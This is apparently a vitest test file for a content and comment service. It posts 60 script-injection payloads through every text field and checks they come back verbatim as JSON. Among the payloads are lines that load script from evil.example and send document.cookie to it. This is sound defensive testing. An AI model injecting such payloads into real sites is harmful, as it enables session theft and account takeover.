import { textLength } from '@app/rules';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ok } from './community-helpers.ts';
import { createTestApp, type TestApp } from './support/test-app.ts';

// 60 script-injection payloads in every text field are stored and returned verbatim, as text in JSON: the
// server never turns them into HTML nor "cleans" them into something else (the browser proves they render inert).

export const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  'javascript:alert(1)',
  '<a href="javascript:alert(1)">点我</a>',
  '<div onmouseover="alert(1)">悬停</div>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<audio src=x onerror=alert(1)>',
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<math><mtext><script>alert(1)</script>',
  '<style>@import "javascript:alert(1)";</style>',
  '<link rel=stylesheet href=javascript:alert(1)>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<form action=javascript:alert(1)><button>提交</button></form>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<table background="javascript:alert(1)">',
  '<svg><script>alert&#40;1&#41;</script>',
  '<img src="x" onerror="&#97;lert(1)">',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=`x`onerror=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<%= alert(1) %>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><script>alert(1)</script></title>',
  '<xmp><script>alert(1)</script></xmp>',
  '"onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '</script><script>alert(1)</script>',
  '<svg/onload=alert`1`>',
  '<img src=1 onerror=eval(atob("YWxlcnQoMSk="))>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">链接</a>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<keygen autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<x contenteditable onblur=alert(1)>点我</x>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<img src="x" onerror="fetch(\'//evil.example?c=\'+document.cookie)">',
  '<div style="background:url(javascript:alert(1))">',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a>',
  '<object type="text/x-scriptlet" data="http://evil.example/x.sct">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<img """><script>alert(1)</script>">',
  '标题<script>alert("中文")</script>结尾',
  '<😀 onerror=alert(1)>',
];

let t: TestApp;
let author: { token: string };
let reader: { token: string };
beforeAll(async () => {
  // 60 payloads published and commented on by one author and one reader within a minute: above the default
  // per-user caps on writes, which this file does not test.
  t = await createTestApp({ env: { ACTION_LIMITS: 'publish=100,comment=100' } });
  author = await t.login();
  reader = await t.login();
});
afterAll(() => t.close());

describe('script-injection payloads', () => {
  it('are 60 distinct payloads', () => {
    expect(new Set(PAYLOADS).size).toBe(60);
  });

  it('come back verbatim from every text field', async () => {
    for (const payload of PAYLOADS) {
      const title = textLength(payload) <= 60 ? payload : '';
      const placeName = payload.length <= 40 ? payload : '';
      const { id } = await ok(
        t.post(
          '/api/service/content/v1/pvt/publish',
          {
            type: 'dynamic',
            title,
            text: payload,
            placeName,
            poll: { question: placeName, options: [placeName || 'a', 'b'] },
          },
          { token: author.token },
        ),
      );
      const { id: commentId } = await ok(
        t.post(
          '/api/service/socialcontact/v1/comment/add',
          { targetType: 'content', targetId: id, text: payload },
          { token: reader.token },
        ),
      );
      await ok(
        t.post(
          '/api/service/socialcontact/v1/comment/add',
          { targetType: 'content', targetId: id, text: payload, parentId: commentId },
          { token: author.token },
        ),
      );
      const res = await fetch(`${t.url}/api/content/v1/pub/queryDetail`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ id }),
      });
      expect(res.headers.get('content-type')).toMatch(/^application\/json/);
      const detail = ((await res.json()) as { body: any }).body;
      expect(detail).toMatchObject({ title, text: payload, placeName });
      expect(detail.poll.options[0].text).toBe(placeName || 'a');
      const thread = (
        await t.postSealed('/api/socialcontact/v1/comment/getByTargetId', { targetType: 'content', targetId: id }, {})
      ).opened;
      expect(thread.rows[0].text).toBe(payload);
      expect(thread.rows[0].replies[0].text).toBe(payload);
    }
    const feed = await ok(t.post('/api/content/v1/pub/list', { pageSize: 100 }));
    expect(feed.rows.map((r: { text: string }) => r.text).sort()).toEqual([...PAYLOADS].sort());
  });

  it('are kept verbatim in the publisher’s contact too', async () => {
    for (const payload of PAYLOADS.filter((p) => p.length <= 20)) {
      const saved = await ok(
        t.post('/api/service/content/v1/pvt/saveContact', { name: payload, wechat: payload }, { token: author.token }),
      );
      expect(saved).toMatchObject({ name: payload, wechat: payload });
    }
  });
});
